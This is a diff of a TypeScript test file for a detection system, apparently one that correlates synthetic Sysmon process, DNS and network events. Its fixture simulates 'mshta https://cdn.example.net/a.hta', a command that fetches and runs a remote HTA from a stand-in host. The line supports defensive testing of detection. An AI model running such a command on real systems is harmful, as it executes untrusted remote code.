@@ -9,6 +9,7 @@ import { deleteImport } from './changeImport';
 import { correlateHostGroup } from './correlateHostGroup';
 import { importWhole, workOff } from './testImports';
 import { type TestRecord, toLines } from './testRecords';
+import { connection, isoAt, query, quiet, start } from './testSysmon';
 
 /** Every order of the imports is tried, each on a database of its own. */
 const LONG = 300_000;
@@ -42,7 +43,13 @@ async function dropDatabase(): Promise<void> {
 /** mshta runs a remote HTA on WS1 and calls a host; ten minutes of telemetry around it. */
 const chain = (): readonly TestRecord[] => [
   ...quiet('WS1', '2026-11-20T08:00', 12),
-  start('WS1', '2026-11-20T09:00:00', 1, 'C:\\Windows\\System32\\mshta.exe', 'mshta https://cdn.example.net/a.hta'),
+  start(
+    'WS1',
+    '2026-11-20T09:00:00',
+    1,
+    'C:\\Windows\\System32\\mshta.exe',
+    'mshta https://cdn.example.net/a.hta',
+  ),
   query('WS1', '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
   connection('WS1', '2026-11-20T09:00:02', 1, '198.51.100.7'),
   ...quiet('WS1', '2026-11-20T09:10', 12),
@@ -85,7 +92,7 @@ async function findings(): Promise<readonly Finding[]> {
 /** Ids of the reasons that the finding's network stage gave. */
 async function judgedAs(): Promise<readonly string[]> {
   return (await findings())
-    .flatMap((finding) => finding.reasons.map((reason) => reason.id))
+    .flatMap((finding) => finding.reasons.filter((reason) => reason.counted).map((reason) => reason.id))
     .filter((id) => id === 'F6' || id === 'F7')
     .sort();
 }
@@ -94,7 +101,9 @@ describe('the history of the environment', () => {
   it('gives nothing while there is too little of it', async () => {
     await bring('chain');
     expect(await judgedAs()).toEqual(['F7']);
-    const { rows } = await pool().query('SELECT DISTINCT split_part(key, \':\', 1) AS class FROM history ORDER BY 1');
+    const { rows } = await pool().query(
+      "SELECT DISTINCT split_part(key, ':', 1) AS class FROM history ORDER BY 1",
+    );
     expect(rows.map((row) => row.class)).toEqual(['class_destination', 'destination', 'image', 'pair']);
   });
 
@@ -175,59 +184,4 @@ async function remembered(): Promise<Record<string, unknown>> {
   };
 }
 
-let recordNumber = 0;
 const IMPORTS = imports();
-
-function sysmon(host: string, time: string, id: number, n: number): TestRecord {
-  const utc = time.length === 16 ? `${time}:00` : time.slice(0, 19);
-  return {
-    EventTime: utc.replace('T', ' '),
-    Hostname: host,
-    EventID: id,
-    SourceName: 'Microsoft-Windows-Sysmon',
-    Channel: 'Microsoft-Windows-Sysmon/Operational',
-    RecordNumber: ++recordNumber,
-    UtcTime: `${utc.replace('T', ' ')}.000`,
-    ProcessGuid: `{11111111-2222-3333-4444-${String(n).padStart(12, '0')}}`,
-    ProcessId: 1000 + n,
-    Image: 'C:\\Windows\\System32\\mshta.exe',
-    User: 'CORP\\anna',
-  };
-}
-
-function start(host: string, time: string, n: number, image: string, commandLine: string): TestRecord {
-  return {
-    ...sysmon(host, time, 1, n),
-    Image: image,
-    CommandLine: commandLine,
-    ParentProcessGuid: '{11111111-2222-3333-4444-000000000900}',
-    ParentProcessId: 900,
-    ParentImage: 'C:\\Windows\\explorer.exe',
-  };
-}
-
-function query(host: string, time: string, n: number, name: string, answer: string): TestRecord {
-  return { ...sysmon(host, time, 22, n), QueryName: name, QueryResults: `::ffff:${answer};` };
-}
-
-function connection(host: string, time: string, n: number, ip: string): TestRecord {
-  return {
-    ...sysmon(host, time, 3, n),
-    Protocol: 'tcp',
-    Initiated: 'true',
-    SourceIp: '10.0.0.5',
-    DestinationIp: ip,
-    DestinationPort: 443,
-  };
-}
-
-/** Starts of nothing in particular, five minutes apart: signs of life of the sensor. */
-function quiet(host: string, from: string, count: number): readonly TestRecord[] {
-  return Array.from({ length: count }, (_, i) =>
-    start(host, isoAt(Date.parse(`${from}Z`) + i * 300_000), 100 + Number(from.slice(14, 16)) + i, 'C:\\Windows\\System32\\conhost.exe', 'conhost.exe 0x4'),
-  );
-}
-
-function isoAt(ms: number): string {
-  return new Date(ms).toISOString().slice(0, 19);
-}
